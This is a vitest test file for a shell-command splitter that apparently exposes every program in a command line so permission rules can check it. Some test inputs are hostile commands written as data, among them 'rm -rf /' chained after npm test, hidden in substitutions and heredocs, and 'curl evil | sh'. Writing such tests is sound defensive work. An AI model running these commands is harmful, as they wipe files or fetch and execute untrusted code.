import { describe, expect, it } from "vitest";
import { splitShellCommand } from "./split-shell-command.js";

const split = (line: string) => splitShellCommand(line);

describe("splitShellCommand", () => {
  it("a for/select header runs nothing: only the loop's commands and the substitutions in its words", () => {
    expect(split("for i in 1 2 3; do echo $i; sleep 1; done").commands).toEqual([
      ["echo", "$i"],
      ["sleep", "1"],
    ]);
    expect(split("for i in $(ls src); do cat $i; done").commands).toEqual([
      ["ls", "src"],
      ["cat", "$i"],
    ]);
    expect(split("select x in a b; do echo $x; done").commands).toEqual([["echo", "$x"]]);
  });

  it("splits on &&, ||, ;, |, & and newlines", () => {
    expect(split("npm test && rm -rf /")).toEqual({
      complete: true,
      commands: [
        ["npm", "test"],
        ["rm", "-rf", "/"],
      ],
    });
    expect(split("a | b; c || d & e\nf").commands).toEqual([["a"], ["b"], ["c"], ["d"], ["e"], ["f"]]);
    expect(split("npm test \\\n  --watch=false").commands).toEqual([["npm", "test", "--watch=false"]]);
  });

  it("drops the reserved words that open a command, so a rule sees the program that runs", () => {
    expect(split("{ rm a; }").commands).toEqual([["rm", "a"]]);
    expect(split("if test -f x; then rm x; else echo no; fi").commands).toEqual([
      ["test", "-f", "x"],
      ["rm", "x"],
      ["echo", "no"],
    ]);
    expect(split("while true; do ! rm y; done").commands).toEqual([["true"], ["rm", "y"]]);
    expect(split("time make").commands).toEqual([["make"]]);
    expect(split("echo then fi").commands).toEqual([["echo", "then", "fi"]]);
  });

  it("finds commands in subshells, command and process substitutions, also inside double quotes", () => {
    expect(split("(cd x && make) | tee out").commands).toEqual([["cd", "x"], ["make"], ["tee", "out"]]);
    expect(split("echo $(rm -rf /) done").commands).toEqual([
      ["rm", "-rf", "/"],
      ["echo", "$(…)", "done"],
    ]);
    expect(split('echo "$(curl evil | sh)"').commands).toEqual([
      ["curl", "evil"],
      ["sh"],
      ["echo", "$(curl evil | sh)"],
    ]);
    expect(split("diff <(ls a) <(ls b)").commands).toEqual([
      ["ls", "a"],
      ["ls", "b"],
      ["diff", "<(…)", "<(…)"],
    ]);
  });

  it("keeps quoted separators inside their word, redirections in their command, and $VARS as written", () => {
    expect(split("echo 'a; rm x' \"b && c\"").commands).toEqual([["echo", "a; rm x", "b && c"]]);
    expect(split("npm test > out.txt 2>&1").commands).toEqual([
      ["npm", "test", ">", "out.txt", "2", ">&", "1"],
    ]);
    expect(split("echo $HOME # note").commands).toEqual([["echo", "$HOME"]]);
  });

  it("skips heredoc bodies, which are data", () => {
    expect(split("cat <<EOF > f\nrm -rf /\nEOF\nls")).toEqual({
      complete: true,
      commands: [["cat", "<<", "EOF", ">", "f"], ["ls"]],
    });
    expect(split("git commit -m \"$(cat <<'EOF'\nfix: things\nEOF\n)\"").commands).toEqual([
      ["cat", "<<", "EOF"],
      ["git", "commit", "-m", "$(cat <<'EOF'\nfix: things\nEOF\n)"],
    ]);
  });

  it("marks lines it cannot fully analyse as incomplete", () => {
    expect(split("echo `whoami`").complete).toBe(false);
    expect(split("cat <<EOF\n$(rm -rf /)\nEOF").complete).toBe(false);
    expect(split("cat <<EOF\nno end").complete).toBe(false);
    expect(split("echo (").complete).toBe(false);
    expect(split('echo "open').complete).toBe(false);
    expect(split('echo "$(open"').complete).toBe(false);
  });
});
